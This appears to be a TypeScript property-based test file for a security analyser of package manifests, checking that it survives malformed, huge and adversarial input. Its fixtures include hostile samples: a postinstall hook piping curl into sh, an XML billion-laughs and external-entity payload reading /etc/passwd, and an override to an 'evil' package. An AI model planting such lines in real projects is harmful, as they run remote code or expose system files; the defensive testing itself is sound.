/**
 * Hostile and pathological manifests: no parser or rule fails, and every range lies inside the
 * document. That the work stays proportional to the input is measured by bench/hostile.bench.ts.
 */
import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { analyze } from '../../../server/src/analysis/analyze';
import { MESSAGE_MAX } from '../../../server/src/model/shorten';
import type { Rule } from '../../../server/src/rules/types';
import { sharedShippedNames } from '../../helpers/shippedNames';
import type { ManifestKind, Span } from '../../../server/src/model/model';
import { LineIndex } from '../../../server/src/model/positions';
import { parseSettings } from '../../../server/src/model/settings';
import { slice } from '../../helpers/text';

const SETTINGS = parseSettings({ maxFileSizeKB: 16 * 1024 });
const KINDS: ManifestKind[] = ['package.json', 'requirements', 'msbuild', 'pyproject.toml', 'Pipfile', 'pnpm-workspace.yaml'];

const SAMPLES: Record<ManifestKind, string> = {
  'package.json': '{\n  "dependencies": { "express": "^4.18.2", "crossenv": "7.0.3", "x": "github:a/b" },\n  "overrides": { "a": { ".": "1", "b": "^2" } },\n  "scripts": { "postinstall": "curl x | sh" }\n}\n',
  requirements: '-i http://pypi.local/simple\n--extra-index-url https://x.test/simple\nrequests[socks]>=2.31 ; python_version > "3.8" \\\n    --hash=sha256:abc\n-e git+https://g.test/a.git#egg=a\nflask==3.0.0\n',
  msbuild: '<Project Sdk="Microsoft.NET.Sdk">\n  <PropertyGroup><RestoreSources>https://a.test/v3/index.json;http://b.test/v3/index.json</RestoreSources></PropertyGroup>\n  <ItemGroup>\n    <PackageReference Include="Newtonsoft.Json" Version="13.*" />\n    <PackageReference Update="Serilog"><Version>3.0.0</Version></PackageReference>\n  </ItemGroup>\n</Project>\n',
  'pyproject.toml': '[project]\ndependencies = ["requests[socks]>=2.31 ; python_version > \'3.8\'", "caf\\u00e9>=1"]\n[dependency-groups]\na = [{include-group = "b"}]\nb = [{include-group = "a"}, "pytest"]\n[tool.poetry.dependencies]\nflask = "^3.0"\nx = { git = "http://g.test/x.git", branch = "main" }\n[tool.uv]\nindex-strategy = "unsafe-best-match"\nextra-index-url = ["https://x.test/simple"]\n',
  'pnpm-workspace.yaml': "packages:\n  - 'packages/*'\ncatalog:\n  vite: ^6.0.0\noverrides:\n  vite: 'catalog:'\n  'a>b': npm:evil@1.0.0\n  \"c@<2\": github:x/y\n  d: -\n  e: {}\n",
  Pipfile: '[[source]]\nurl = "http://pypi.local/simple"\nverify_ssl = false\n[packages]\nrequests = "*"\nflask = { version = ">=3", index = "pypi" }\n[dev-packages]\na = { git = "https://g.test/a.git", ref = "main" }\n',
};

function assertSound(kind: ManifestKind, text: string): void {
  // analyze() catches a failing parser or rule and logs it: a logged failure is the crash here.
  const failures: string[] = [];
  const { manifest, findings } = analyze({ kind, text, settings: SETTINGS, logger: { error: (m) => failures.push(m) } });
  assert.deepEqual(failures, [], `${kind}: a parser or rule failed on ${JSON.stringify(text.slice(0, 200))}`);
  const inside = (s: Span | undefined, what: string) => {
    if (!s) return;
    assert.ok(s.start >= 0 && s.start <= s.end && s.end <= text.length, `${what} ${JSON.stringify(s)} outside a text of ${text.length}`);
  };
  for (const d of manifest.dependencies) {
    inside(d.nameSpan, `name of ${d.name}`);
    inside(d.specSpan, `spec of ${d.name}`);
  }
  for (const f of findings) {
    inside(f.span, `finding ${f.rule}`);
    for (const fix of f.fixes ?? []) for (const e of fix.edits) inside(e.span, `fix of ${f.rule}`);
  }
}

/** Mutations of a real manifest: cut, duplicate, insert junk, swap characters. */
const mutated = (kind: ManifestKind) =>
  fc
    .tuple(fc.nat(), fc.nat(), fc.string({ maxLength: 20, unit: 'binary' }), fc.constantFrom('cut', 'insert', 'dup', 'swap'))
    .map(([a, b, junk, op]) => {
      const t = SAMPLES[kind];
      const i = a % (t.length + 1);
      const j = b % (t.length + 1);
      const [lo, hi] = i < j ? [i, j] : [j, i];
      switch (op) {
        case 'cut':
          return t.slice(0, lo) + t.slice(hi);
        case 'insert':
          return t.slice(0, lo) + junk + t.slice(lo);
        case 'dup':
          return t.slice(0, hi) + t.slice(lo, hi) + t.slice(hi);
        default:
          return t.slice(0, lo) + t.slice(hi) + t.slice(lo, hi);
      }
    });

describe('hostile manifests', () => {
  for (const kind of KINDS) {
    it(`${kind}: arbitrary input never throws and every range lies inside the document`, () => {
      fc.assert(fc.property(fc.string({ maxLength: 400, unit: 'binary' }), (text) => assertSound(kind, text)), { numRuns: 300 });
    });
    it(`${kind}: mutated real manifests never throw and keep ranges inside`, () => {
      fc.assert(fc.property(mutated(kind), (text) => assertSound(kind, text)), { numRuns: 400 });
    });
    it(`${kind}: survives NUL bytes, a BOM, lone surrogates and bidi controls`, () => {
      for (const junk of ['\u0000', '\uFEFF', '\uD800', '\u202E', '\r', '\u2028']) {
        assertSound(kind, junk + SAMPLES[kind]);
        assertSound(kind, SAMPLES[kind].split('\n').join(`${junk}\n`));
      }
    });
    it(`${kind}: keeps ranges exact with CRLF and lone CR line ends`, () => {
      const lf = analyze({ kind, text: SAMPLES[kind], settings: SETTINGS });
      for (const eol of ['\r\n', '\r']) {
        const text = SAMPLES[kind].replace(/\n/g, eol);
        const other = analyze({ kind, text, settings: SETTINGS });
        assert.deepEqual(other.findings.map((f) => [f.rule, slice(text, f.span)]), lf.findings.map((f) => [f.rule, slice(SAMPLES[kind], f.span)]), eol === '\r' ? 'CR' : 'CRLF');
        const lines = new LineIndex(text);
        const lfLines = new LineIndex(SAMPLES[kind]);
        assert.deepEqual(other.findings.map((f) => lines.rangeOf(f.span)), lf.findings.map((f) => lfLines.rangeOf(f.span)));
      }
    });
  }

  it('package.json nested a million levels deep: no stack overflow, dependencies still read', () => {
    const n = 1_000_000;
    const text = `{"dependencies": {"a": "^1"}, "x": ${'['.repeat(n)}${']'.repeat(n)}, "devDependencies": {"b": "^2"}}`;
    const { manifest, findings } = analyze({ kind: 'package.json', text, settings: parseSettings({ maxFileSizeKB: 4096 }) });
    assert.deepEqual(manifest.dependencies.map((d) => d.name), ['a', 'b']);
    assert.ok(findings.some((f) => f.rule === 'parse-error' && /nested deeper than 256/.test(f.message)));
  });

  it('a 5 MB package.json, a 100,000-line requirements file and a 1 MB single line are analysed', () => {
    const deps = Array.from({ length: 160_000 }, (_, i) => `"pkg-${i}": "^1.${i}.0"`).join(',\n    ');
    const big = `{\n  "dependencies": {\n    ${deps}\n  }\n}\n`;
    assert.ok(big.length > 5_000_000, `${big.length}`);
    assert.equal(analyze({ kind: 'package.json', text: big, settings: SETTINGS }).manifest.dependencies.length, 160_000);
    const req = Array.from({ length: 100_000 }, (_, i) => `pkg${i}==1.0.${i}`).join('\n');
    assert.equal(analyze({ kind: 'requirements', text: req, settings: SETTINGS }).manifest.dependencies.length, 100_000);
    for (const kind of KINDS) assertSound(kind, 'a'.repeat(1_000_000));
    assertSound('requirements', `requests==${'1'.repeat(1_000_000)}`);
  });

  it('XML entity expansion and external entities are never resolved', () => {
    const laughs = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<Project><ItemGroup><PackageReference Include="&xxe;" Version="&lol3;" /></ItemGroup></Project>`;
    const { manifest } = analyze({ kind: 'msbuild', text: laughs, settings: SETTINGS });
    for (const d of manifest.dependencies) {
      assert.ok(!d.name.includes('root:'), 'external entity resolved');
      assert.ok((d.spec ?? '').length < 100, 'entity expanded');
    }
  });
  it('messages stay short whatever the file quotes: long names, specs and URLs are cut, lists capped', () => {
    const names = sharedShippedNames();
    const long = 'a'.repeat(20_000);
    const cases: Array<[ManifestKind, string, string[]]> = [
      ['package.json', `{"dependencies": {"${'ж'.repeat(20_000)}": "1.0.0", "a": "${'1 || '.repeat(4000)}2", "b": "git+http://x.test/${long}", "c${long}": "^1"}}`, ['typosquat', 'unpinned-version', 'insecure-source', 'non-registry-source', 'unpinned-version']],
      ['requirements', `${'ж'.repeat(20_000)}==1\nx${'>=1,'.repeat(5000)}<2\n--extra-index-url https://${long}/simple\n--trusted-host ${long}\nhttp://x.test/${long}.tar.gz\n`, ['parse-error', 'typosquat', 'unpinned-version', 'dependency-confusion', 'insecure-source', 'insecure-source', 'non-registry-source']],
      ['msbuild', `<Project><ItemGroup><PackageReference Include="${'ж'.repeat(20_000)}" Version="${'1.'.repeat(5000)}*" /></ItemGroup></Project>`, ['typosquat']],
    ];
    for (const [kind, text, rules] of cases) {
      const { findings } = analyze({ kind, text, settings: SETTINGS, names });
      assert.deepEqual(findings.map((f) => f.rule).sort(), [...rules].sort(), kind);
      for (const f of findings) assert.ok(f.message.length <= 600, `${kind} ${f.rule}: a message of ${f.message.length} characters`);
    }
  });

  it('a project listing thousands of restore sources costs linear output, not one list per source', () => {
    // Each extra source is a finding; each used to name every source: 3,000 sources made 100 MB of text.
    const sources = Array.from({ length: 3000 }, (_, i) => `https://feed${i}.test/v3/index.json`).join(';');
    const text = `<Project><PropertyGroup><RestoreSources>${sources}</RestoreSources></PropertyGroup></Project>`;
    const { findings } = analyze({ kind: 'msbuild', text, settings: SETTINGS });
    const confusion = findings.filter((f) => f.rule === 'dependency-confusion');
    assert.equal(confusion.length, 2999);
    assert.match(confusion[0].message, /restores from 3000 package sources \(https:\/\/feed0\.test\/v3\/index\.json, https:\/\/feed1\.test\/v3\/index\.json, https:\/\/feed2\.test\/v3\/index\.json and 2997 more\)/);
    assert.ok(findings.every((f) => f.message.length < 500));
  });

  it('names the distinct non-ASCII characters of a name, a few of them, not every one', () => {
    const names = sharedShippedNames();
    const name = `${'ж'.repeat(5000)}${'αβγδεζηθικλμ'.repeat(100)}`;
    const { findings } = analyze({ kind: 'package.json', text: `{"dependencies": {"${name}": "1.0.0"}}`, settings: SETTINGS, names });
    const [typo] = findings.filter((f) => f.rule === 'typosquat');
    assert.match(typo.message, /non-ASCII characters, among others: Cyrillic `ж` \(U\+0436\); Greek `α`/);
    assert.equal(typo.message.match(/U\+/g)?.length, 8);
  });

  it('bounds any message a rule builds, however long', () => {
    const chatty: Rule = { id: 'parse-error', check: () => [{ span: { start: 0, end: 1 }, message: 'x'.repeat(1_000_000) }] };
    const { findings } = analyze({ kind: 'requirements', text: 'flask==3.0.0\n', settings: SETTINGS, extraRules: [chatty] });
    assert.equal(findings[0].message.length, MESSAGE_MAX);
    assert.ok(findings[0].message.endsWith('…'));
  });

  it('a failing rule or post-parse step is logged with its rule, file kind and stack; the other rules still report', () => {
    const logged: string[] = [];
    const broken: Rule = {
      id: 'typosquat',
      check: () => {
        throw new TypeError('boom in a rule');
      },
    };
    const { findings } = analyze({
      kind: 'package.json',
      text: '{"dependencies": {"express": "^4.18.2"}}',
      settings: SETTINGS,
      extraRules: [broken],
      afterParse: () => {
        throw new Error('boom after parsing');
      },
      logger: { error: (m) => logged.push(m) },
    });
    assert.deepEqual(findings.map((f) => f.rule), ['unpinned-version']);
    assert.equal(logged.length, 2);
    assert.match(logged[0], /^post-parse step failed: Error: boom after parsing\n\s+at /);
    assert.match(logged[1], /^rule typosquat failed on a package\.json: TypeError: boom in a rule\n\s+at /);
  });
});
